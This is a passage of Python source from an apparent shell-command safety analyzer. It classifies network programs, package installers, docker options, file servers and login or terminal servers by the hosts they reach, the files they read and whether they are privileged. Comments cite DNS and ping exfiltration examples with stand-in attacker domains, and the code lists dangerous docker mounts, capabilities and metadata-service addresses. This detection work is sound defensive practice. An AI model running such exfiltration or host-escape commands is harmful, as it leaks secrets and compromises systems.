    f.hosts += [o for o in operands if not o.isdigit() and not o.startswith("+")][:1]
    if f.cmd.name in ("dig", "kdig", "drill", "delv"):
        f.hosts += [o[1:] for o in operands if o.startswith("@")]  # the server asked
    names = operands[:4] if f.cmd.name in _LOOKUPS else operands[:1]
    _data_in_names(f, names, whole=f.cmd.name in _LOOKUPS)
    if f.cmd.name.startswith("ping") and _built(f, *option_values(options, "-p")):
        f.sends.append(_NAME_DATA)  # `ping -p $(xxd -p f) host`: the payload pattern


#: Programs whose work is to look a name up (a query to a DNS server: a name under a
#: domain someone controls reaches that domain's server).
_LOOKUPS = frozenset({"dig", "kdig", "drill", "delv", "nslookup", "host", "getent", "resolvectl"})
#: What a name built from a command's output sends (`nslookup $(whoami).evil.example`).
_NAME_DATA = "(name) data in a looked-up host name, from a command substitution"


def _built(f: Facts, *values: str) -> bool:
    """Whether a value is (partly) the output of one of the command's own
    substitutions: `$?` in a word of a command that has substitutions."""
    start, end = f.cmd.inner
    return end > start and any(_shell._UNKNOWN in v for v in values)


def _data_in_names(f: Facts, names: Iterable[str], *, whole: bool = False) -> None:
    """A host name built from a substitution's output is looked up — the output goes
    to the DNS server of the domain it ends in (`$(cat .env | base64).evil.tld`): a
    send. A name that is only a substitution (`curl http://$(minikube ip)`) is a send
    for the programs that do nothing but look names up (`whole`)."""
    for name in names:
        host = host_of(name) if "://" in name else name
        if _built(f, host) and (whole or host.strip() != _shell._UNKNOWN):
            f.sends.append(_NAME_DATA)
            return


def _metadata_client(f: Facts) -> None:
    """`ec2-metadata`, `ec2metadata`, `oci-metadata`: clients of the instance metadata
    service, which hands out the machine's credentials."""
    f.network = True
    f.hosts.append("192.0.0.192" if f.cmd.name.startswith("oci") else "169.254.169.254")


def pip(f: Facts, args: Sequence[str] | None = None) -> None:
    words = list(f.cmd.args if args is None else args)
    operands, options = split_options(words, _VALUE_OPTIONS["pip"])
    sub = operands[0] if operands else ""
    f.subcommand = sub
    packages = operands[1:]
    if sub in ("install", "download", "wheel"):
        f.network = True
        for package in packages:
            if "://" in package or package.startswith(("git+", "hg+", "svn+", "bzr+")):
                f.downloaded = True
                f.hosts.append(host_of(package.split("+", 1)[-1]))
            elif package.startswith((".", "/", "~")) or package.endswith(
                (".whl", ".tar.gz", ".zip")
            ):
                f.read(package)
        f.read(*option_values(options, "-r", "--requirement", "-c", "--constraint"))
        for value in option_values(options, "-e", "--editable"):
            if "://" in value or value.startswith(("git+", "hg+")):
                f.downloaded = True
            else:
                f.read(value)
        for value in option_values(
            options, "-i", "--index-url", "--extra-index-url", "-f", "--find-links"
        ):
            f.hosts.append(host_of(value))
            if value.startswith("http://") and host_of(value) not in ("localhost", "127.0.0.1"):
                f.downloaded = True  # packages (and their build code) over plain http
        f.write(*option_values(options, "-t", "--target", "--prefix", "--root", "-d", "--dest"))
    elif sub == "uninstall":
        f.subcommand = "uninstall"
    elif sub in ("config",):
        f.write("~/.config/pip/pip.conf")


def _pip_handler(f: Facts) -> None:
    pip(f)


_JS_REMOTE = LazyPattern(
    r"^(?:[A-Za-z][A-Za-z0-9+.-]*://|git\+|github:|gitlab:|bitbucket:|gist:|[\w.-]+/[\w.-]+(?:#.*)?$)"
)


def _js_package(f: Facts) -> None:
    operands, options = split_options(
        f.cmd.args,
        words("--prefix -C --dir --registry --cwd -w --workspace --filter -F"),
    )
    sub = operands[0] if operands else ""
    f.subcommand = sub
    directory = option_values(options, "--prefix", "-C", "--dir", "--cwd")
    if directory:
        f.read(directory[-1])
    if sub in (
        "install",
        "i",
        "add",
        "ci",
        "update",
        "up",
        "upgrade",
        "isntall",
        "dlx",
        "exec",
        "x",
        "create",
        "init",
        "publish",
    ) or (f.cmd.name in ("npx", "bunx", "pnpx") and operands):
        f.network = True
        candidates = operands if f.cmd.name in ("npx", "bunx", "pnpx") else operands[1:]
        if f.cmd.name in ("npx", "bunx", "pnpx") and operands:
            f.read(*operands[1:])  # the tool's own operands: files it may read
        for package in candidates[:1] if f.cmd.name in ("npx", "bunx", "pnpx") else candidates:
            if package.startswith(("@",)) and "/" in package and "://" not in package:
                continue  # a scoped package name
            if _JS_REMOTE.match(package) and not package.startswith((".", "/")):
                f.downloaded = True
                if "://" in package:
                    f.hosts.append(host_of(package))
        for value in option_values(options, "--registry"):
            f.hosts.append(host_of(value))
        runner = f.cmd.name in ("npx", "bunx", "pnpx")
        package = operands[0] if runner and operands else ""
        if not runner and sub in ("dlx", "exec", "x") and len(operands) > 1:
            package = operands[1]
        if package:
            args = list(f.cmd.args)
            node_server(f, package, args[args.index(package) + 1 :])


def _cargo_like(f: Facts) -> None:
    operands, options = split_options(
        f.cmd.args,
        words(
            "--git --path --index --registry --root -Z --manifest-path --target-dir -p "
            "--package --branch --tag --rev"
        ),
    )
    f.subcommand = operands[0] if operands else ""
    if f.subcommand in ("install", "fetch", "update", "publish", "add", "get", "download"):
        f.network = True
    for value in option_values(options, "--git"):
        f.downloaded = True
        f.hosts.append(host_of(value))
    if f.cmd.name == "gem" and f.subcommand == "install":
        for value in option_values(options, "--source"):
            f.hosts.append(host_of(value))


def _docker(f: Facts) -> None:
    args = list(f.cmd.args)
    takes = _VALUE_OPTIONS["docker"]
    if any(a in ("run", "create", "exec") for a in args[:3]):
        takes = takes - {"-t"}  # `-it`: a terminal, not a tag
    operands, options = split_options(args, takes)
    f.subcommand = operands[0] if operands else ""
    if f.subcommand in ("pull", "push", "login", "build", "run", "search"):
        f.network = True
    # `-H tcp://host:2375`, `DOCKER_HOST=ssh://u@host`: a daemon elsewhere. (A unix
    # socket is this machine's daemon, the one `docker` talks to anyway: its commands
    # are judged as they are; other clients of its socket are privileged, see _curl.)
    daemons = option_values(options, "-H", "--host") + [
        a.split("=", 1)[1] for a in f.cmd.assignments if a.startswith("DOCKER_HOST=")
    ]
    for daemon in daemons:
        if not daemon.startswith(("unix:", "npipe:", "fd:")) and daemon != _shell._UNKNOWN:
            f.network = True
            f.hosts += url_hosts(daemon if "://" in daemon else "tcp://" + daemon)
    if f.subcommand in ("run", "create", "exec") or (
        f.subcommand in ("container", "compose") and operands[1:2] in (["run"], ["create"])
    ):
        if has_option(options, "--privileged") or any(
            v in ("host",)
            for v in option_values(
                options, "--pid", "--net", "--network", "--ipc", "--userns", "--uts"
            )
        ):
            f.privileged = True
        for value in option_values(options, "--cap-add", "--security-opt", "--device"):
            if (
                value.upper().removeprefix("CAP_")
                in (
                    "ALL",
                    "SYS_ADMIN",
                    "SYS_PTRACE",
                    "SYS_MODULE",
                    "DAC_READ_SEARCH",
                    "SYS_RAWIO",
                    "NET_ADMIN",
                    "SYS_BOOT",
                    "BPF",
                    "PERFMON",
                    "DAC_OVERRIDE",
                    "SYS_CHROOT",
                )
                or "unconfined" in value
                or value.startswith("/dev/")
            ):
                f.privileged = True
        for mount in option_values(options, "-v", "--volume", "--mount"):
            source = (
                mount.split(":", 1)[0]
                if "type=" not in mount
                else next(
                    (
                        p.split("=", 1)[1]
                        for p in mount.split(",")
                        if p.startswith(("source=", "src="))
                    ),
                    "",
                )
            )
            if source.startswith(("/", "~", ".")):
                located = f.at(source)
                f.reads.append(located)
                if (
                    located
                    in (
                        "/",
                        "/etc",
                        "/root",
                        "/var/run/docker.sock",
                        "/run/docker.sock",
                        "/proc",
                        "/sys",
                        "/dev",
                        "/boot",
                        "/usr",
                        "/home",
                        "/run",
                        "/var/run",
                        "/var",
                        "/var/lib/docker",
                        "/run/containerd",
                        "/lib/modules",
                    )
                    or located == f.home
                ):
                    f.privileged = True
            elif source and ":" in mount and "/" not in source:
                f.reads.append(f"(volume {source})")  # a named volume: see `volume create`
    if f.subcommand == "volume" and operands[1:2] == ["create"]:
        # `docker volume create --opt device=/ --opt o=bind`: the host's root, by name
        opts = option_values(options, "-o", "--opt")
        if any(o.startswith("device=") for o in opts) and any("bind" in o for o in opts):
            device = next(o.split("=", 1)[1] for o in opts if o.startswith("device="))
            if not f.at(device).startswith(f.cwd or "\0"):
                f.privileged = True
    if f.subcommand == "cp" and len(operands) >= 3:
        source, dest = operands[1], operands[2]
        if ":" in source.split("/", 1)[0]:
            f.write(dest)
        else:
            f.read(source)


# -------------------------------------------------------------- listeners
#
# A listener gives whoever connects what it serves. One that runs a program for
# each connection (a web terminal, telnetd, an SSH server, a notebook server without
# a token) is a bind shell: the program is hidden code run over the network, refused
# like a reverse shell. A file server reads everything below the directory it
# serves, so serving the home, `/` or a place where keys are kept is a read of them;
# serving the workspace (or its `dist/`) is everyday work, on every interface or not
# (`python -m http.server` and `npx http-server` listen on all of them by default).


def file_server(f: Facts, root: str | None, *, writable: bool = False) -> None:
    """A server handing out the files below `root` (the cwd when None): all of them
    are read, and with uploads or deletes allowed (`writable`) written too."""
    f.network = True
    f.read_tree(root if root else ".")
    if writable:
        f.write_tree(root if root else ".")


def _served(
    f: Facts,
    args: Sequence[str],
    takes: frozenset[str],
    roots: tuple[str, ...] = (),
    *,
    default: str = ".",
    writes: tuple[str, ...] = (),
) -> None:
    """A file server whose root is option `roots` or its first operand."""
    operands, options = split_options(args, takes)
    root = [*option_values(options, *roots), *operands[:1]]
    file_server(f, root[-1] if root else default, writable=has_option(options, *writes))
    for value in option_values(options, "--mount"):  # live-server --mount=/route:DIR
        f.read_tree(value.split(":", 1)[-1])


#: Node file servers run by name or through npx: their options that take a value.
_NODE_SERVERS: dict[str, frozenset[str]] = {
    "http-server": words(
        "-p --port -a -e --ext -c -t --timeout -P --proxy --proxy-options --username "
        "--password -C --cert -K --key --mimetypes --websocket"
    ),
    "serve": words("-l --listen -p -c --config --ssl-cert --ssl-key --ssl-pass"),
    "live-server": words("--port --host --open --watch --ignore --entry-file --wait"),
    "lite-server": words("-c --config --baseDir"),
    "static-server": words("-p --port -i --index -f --follow-symlink -o --open"),
    "ws": words("-p --port -d --directory --rewrite -r --spa --config-file"),
    "local-web-server": words("-p --port -d --directory --rewrite -r --spa --config-file"),
    "five-server": words("--port --host --open"),
    "servor": frozenset(),
    "node-static": words("-p --port -a -c --cache -H --headers"),
}
_NODE_ROOTS = {"ws": ("-d", "--directory"), "local-web-server": ("-d", "--directory")}


def node_server(f: Facts, name: str, args: Sequence[str]) -> bool:
    """`npx http-server DIR`, `npx serve DIR`, ...: True when `name` is a file server."""
    takes = _NODE_SERVERS.get(name.rsplit("@", 1)[0] if not name.startswith("@") else name)
    if takes is None:
        return False
    _served(f, args, takes, _NODE_ROOTS.get(name, ("--baseDir",)))
    return True


def _node_server(f: Facts) -> None:
    node_server(f, f.cmd.name, f.cmd.args)


def _caddy(f: Facts) -> None:
    """`caddy file-server --root DIR` serves DIR (the cwd by default); `caddy run`,
    `start` and `reverse-proxy` serve what a Caddyfile or the command says."""
    operands, options = split_options(
        f.cmd.args, words("-r --root -l --listen -d --domain -c --config -a --adapter")
    )
    f.subcommand = operands[0] if operands else ""
    if f.subcommand == "file-server":
        file_server(f, next(iter(option_values(options, "-r", "--root")[-1:]), None))
    elif f.subcommand in ("run", "start", "reverse-proxy"):
        f.network = True
        f.read(*option_values(options, "-c", "--config"))


#: Other file servers: {name: (options taking a value, root options, write options,
#: default root)}; the root is else their first operand.
_FILE_SERVERS: dict[str, tuple[frozenset[str], tuple[str, ...], tuple[str, ...], str]] = {
    "darkhttpd": (words("--port --addr --maxconn --log --index --mimetypes --auth"), (), (), "."),
    "miniserve": (
        words(
            "-p --port -i --interfaces -a --auth -c --color-scheme -t --title --header "
            "--route-prefix --index --auth-file -q --qrcode"
        ),
        (),
        ("-u", "--upload-files", "-U", "--mkdir", "--rm-files", "-R"),
        ".",
    ),
    "updog": (words("-p --port --password"), ("-d", "--directory"), (), "."),
    "dufs": (
        words("-b --bind -p --port -a --auth --path-prefix --config --tls-cert --tls-key"),
        (),
        ("-A", "--allow-all", "--allow-upload", "--allow-delete"),
        ".",
    ),
    "static-web-server": (
        words("-p --port -a --host -w --config-file"),
        ("-d", "--root"),
        (),
        "./public",
    ),
    "simple-http-server": (
        words("-p --port -i --ip -t --threads -a --auth"),
        (),
        ("-u", "--upload"),
        ".",
    ),
    "webfsd": (words("-p -i -f -n -N -c -t -a"), ("-r",), (), "."),
    "goshs": (words("-p --port -i --ip -b --basic-auth"), ("-d", "--dir"), (), "."),
    "gossa": (words("-p -h -prefix"), (), (), "."),
    "ftpd": (words("-t -T -a"), (), ("-w",), "."),
    "pyftpdlib": (
        words("-i --interface -p --port -u --username -P --password"),
        ("-d", "--directory"),
        ("-w", "--write"),
        ".",
    ),
    "uploadserver": (words("-b --bind --token --theme"), ("-d", "--directory"), (), "."),
    "impacket-smbserver": (
        words("-comment -username -password -hashes -ts -port -ip -interface-address"),
        (),
        (),
        ".",
    ),
    "smbserver.py": (
        words("-comment -username -password -hashes -ts -port -ip -interface-address"),
        (),
        (),
        ".",
    ),
}


def _file_server_program(f: Facts) -> None:
    takes, roots, writes, default = _FILE_SERVERS[f.cmd.name]
    if f.cmd.name in ("impacket-smbserver", "smbserver.py"):
        # SHARENAME DIR, options spelt `-name value`: the share is writable
        operands: list[str] = []
        args = iter(f.cmd.args)
        for arg in args:
            if arg in takes:
                next(args, None)
            elif not arg.startswith("-"):
                operands.append(arg)
        file_server(f, operands[1] if len(operands) > 1 else None, writable=True)
        return
    _served(f, f.cmd.args, takes | frozenset(roots), roots, default=default, writes=writes)


def python_server(f: Facts, module: str, args: Sequence[str]) -> bool:
    """`python -m pyftpdlib -d DIR -w`, `python -m uploadserver`: True when `module`
    serves files."""
    if module not in ("pyftpdlib", "uploadserver"):
        return False
    takes, roots, writes, default = _FILE_SERVERS[module]
    _, options = split_options(args, takes | frozenset(roots))
    root = option_values(options, *roots)
    writable = module == "uploadserver" or has_option(options, *writes)
    file_server(f, root[-1] if root else default, writable=writable)
    return True


_RUBY_HTTPD = words(
    "-p --port -b --bind-address --max-clients --temp-dir --request-timeout --http-version "
    "--ssl-certificate --ssl-private-key"
)


def interpreter_server(f: Facts, language: str, args: Sequence[str]) -> bool:
    """`php -S ADDR [-t DIR]` and `ruby -run -e httpd [DIR]` serve a directory (the cwd
    by default): True when the interpreter is started as such a server."""
    if language == "php" and any(a == "-S" or a.startswith("-S") for a in args):
        _, options = split_options(args, words("-S -t -c -d -z"))
        roots = option_values(options, "-t")
        file_server(f, roots[-1] if roots else None)
        return True
    if language != "ruby" or "-run" not in args:
        return False
    for position, arg in enumerate(args):
        code = args[position + 1] if arg == "-e" and position + 1 < len(args) else ""
        code = arg[2:] if arg.startswith("-e") and len(arg) > 2 else code
        if code.strip() == "httpd":
            rest = args[position + (1 if arg != "-e" else 2) :]
            operands, _ = split_options(rest, _RUBY_HTTPD)
            file_server(f, operands[0] if operands else None)
            return True
    return False


def _terminal_server(f: Facts) -> None:
    """gotty, ttyd, websocketd: a program run for every connection, its terminal or
    its standard input and output handed to whoever connects."""
    f.network = True
    operands, _ = split_options(
        f.cmd.args,
        words(
            "-p --port -a --address -c --credential -i --interface -t --terminal-type "
            "-I --index -b --base-path -P --ping-interval -m --max-clients -u --uid -g "
            "--gid -w --cwd -T --title-format -H --auth-header -O -S --ssl-cert "
            "--ssl-key --ssl-ca --title-format --config --loglevel --staticdir --cgidir "
            "--devconsole --origin --sameorigin --header --header-ws --header-http "
            "--maxforks --closems --reverselookup --dir --passenv --binary --ssl"
        ),
    )
    program = " ".join(operands) or "a shell"
    f.hide(f"{f.cmd.name} runs {program!r} for whoever connects (a bind shell)")


def _login_server(f: Facts) -> None:
    """telnetd, sshd, dropbear: a login (or the program given) for whoever connects.
    `sshd -t` / `-T` only check and print the configuration."""
    f.network = True
    if f.cmd.name in ("sshd", "dropbear") and any(a in ("-t", "-T") for a in f.cmd.args):
        f.network = False
        return
    _, options = split_options(f.cmd.args, words("-l -p -b -f -F -h -o -c -E -g -k -r -i -K -P -W"))
    login = option_values(options, "-l") if "telnetd" in f.cmd.name else []
    program = login[-1] if login else "a login shell"
    f.hide(f"{f.cmd.name} hands {program!r} to whoever connects (a bind shell)")


#: Notebook and IDE servers: they run code for whoever holds their token, so with
#: the token (or the password) switched off they run it for whoever connects.
_NO_TOKEN = LazyPattern(
    r"^--(?:NotebookApp|ServerApp|IdentityProvider|LabApp|PasswordIdentityProvider)\."
    r"(?:token|password)$"
)


def _notebook_server(f: Facts) -> None:
    args = list(f.cmd.args)
    operands, options = split_options(
        args,
        words(
            "--ip --port --notebook-dir --ServerApp.root_dir --NotebookApp.notebook_dir "
            "--auth --bind-addr --host --user-data-dir --extensions-dir --connection-token"
        ),
    )
    if f.cmd.name == "jupyter":
        f.subcommand = operands[0] if operands else ""
        if f.subcommand not in ("notebook", "lab", "server", "nbclassic"):
            return
    f.network = True
    no_auth = any(
        _NO_TOKEN.match(name) and any(v.strip("'\"") == "" for v in values)
        for name, values in options.items()
    ) or has_option(options, "--without-connection-token", "--disable-token")
    no_auth = no_auth or any(v == "none" for v in option_values(options, "--auth"))
    if no_auth:
        f.hide(f"{f.cmd.name} without a token runs code for whoever connects (a bind shell)")
    roots = option_values(
        options, "--notebook-dir", "--ServerApp.root_dir", "--NotebookApp.notebook_dir"
    )
    if roots:
        file_server(f, roots[-1])


_PROGRAMS: tuple[tuple[Callable[[Facts], None], str], ...] = (
    (_curl, "curl"),
    (_wget, "wget"),
    (_aria2c, "aria2c"),
    (_netcat, "nc ncat netcat nc.openbsd nc.traditional"),
    (_socat, "socat"),
    (_telnet_like, "telnet ftp lftp tftp sftp smbclient"),
    (_openssl, "openssl"),
    (_ssh, "ssh"),
    (_copy_remote, "scp rsync"),
    (_cloud_copy, "aws gsutil rclone azcopy s3cmd gcloud"),
    (_mail, "mail mailx mutt sendmail swaks"),
    (_http_client, "http https xh xhs"),
    (
        _network_only,
        "ping ping6 dig nslookup host whois traceroute traceroute6 tracepath mtr masscan "
        "kdig drill delv",
    ),
    (_metadata_client, "ec2-metadata ec2metadata oci-metadata"),
    (_pip_handler, "pip pip3"),
    (_js_package, "npm pnpm yarn npx pnpx bunx"),
    (_cargo_like, "cargo go gem"),
    (_docker, "docker podman nerdctl"),
    (_node_server, " ".join(_NODE_SERVERS)),
    (_caddy, "caddy"),
    (_file_server_program, " ".join(n for n in _FILE_SERVERS if n not in ("pyftpdlib",))),
    (_terminal_server, "gotty ttyd websocketd"),
    (_login_server, "telnetd in.telnetd utelnetd sshd dropbear"),
    (
        _notebook_server,
        "jupyter jupyter-notebook jupyter-lab jupyter-server code-server openvscode-server",
    ),
)
#: The network programs this module knows, by name.
HANDLERS: dict[str, Callable[[Facts], None]] = {
    name: handler for handler, names in _PROGRAMS for name in names.split()
}
